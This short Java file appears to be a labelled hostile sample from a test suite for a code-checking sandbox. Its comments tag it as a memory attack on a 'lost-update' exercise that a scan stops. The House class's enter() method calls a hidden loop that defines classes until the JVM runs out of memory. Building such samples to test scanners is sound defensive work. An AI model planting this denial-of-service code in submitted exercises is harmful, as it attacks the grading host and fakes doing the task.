// attack: classes are made until there is no room for more
// family: memory
// exercise: 01-lost-update
// stopped by: scan
// verdict: not allowed

class House {
    private int inside;
    private int turnedAway;

    private void attack() {
        try {
            byte[] code = House.class.getResourceAsStream("House.class").readAllBytes();
            while (true) {
                MethodHandles.lookup().defineHiddenClass(code, false);
            }
        } catch (IOException | IllegalAccessException e) {
            turnedAway++;
        }
    }

    House(int room) {}

    boolean enter() {
        attack();
        inside++;
        return true;
    }

    void leave() { inside--; }

    int inside() { return inside; }

    int turnedAway() { return turnedAway; }
}
